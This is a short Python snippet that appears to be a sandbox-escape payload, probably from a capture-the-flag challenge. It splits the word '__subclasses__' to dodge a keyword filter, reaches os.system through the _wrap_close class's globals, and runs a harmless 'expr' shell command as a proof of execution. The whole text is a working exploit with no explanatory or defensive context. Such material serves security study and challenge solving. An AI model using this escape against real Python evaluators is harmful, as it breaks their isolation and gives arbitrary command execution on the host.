o=object
subs=type.__dict__["__sub"+"classes__"](o)
[c for c in subs if c.__name__=="_wrap_close"][0].__init__.__globals__["system"]("expr 40 + 1001")
